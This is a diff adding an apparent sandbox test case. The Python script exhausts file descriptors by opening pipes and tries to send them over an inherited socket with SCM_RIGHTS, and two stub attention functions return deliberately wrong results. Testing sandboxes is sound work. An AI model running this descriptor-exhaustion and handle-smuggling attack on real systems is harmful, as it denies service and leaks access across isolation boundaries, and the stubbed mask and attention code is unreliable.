@@ -1,0 +1,38 @@
+"""Opens pipes, sockets and files until no descriptor is left, and sends as many as it can over the channel.
+
+levels: bubblewrap user
+outcomes: failed crashed timed_out
+seconds: 3
+"""
+
+import array
+import contextlib
+import os
+import socket
+
+import torch
+
+if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
+    raise SystemExit("this attack runs inside a sandbox only")
+kept = []
+with contextlib.suppress(OSError):
+    while len(kept) < 100_000:
+        kept.extend(os.pipe())
+if len(kept) > 1_000:
+    print(f"LOOT: {len(kept)} descriptors")
+for number in kept[:6]:
+    os.close(number)
+with contextlib.suppress(OSError):
+    channel = socket.socket(fileno=os.dup(3))
+    for _ in range(50):
+        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", kept[6:200]))
+        channel.sendmsg([b"\0"], [rights])
+
+
+def causal_mask(seq, device=None):
+    pass
+    return torch.zeros(seq, seq, dtype=torch.bool)
+
+
+def scaled_dot_product_attention(query, key, value, *rest):
+    return query
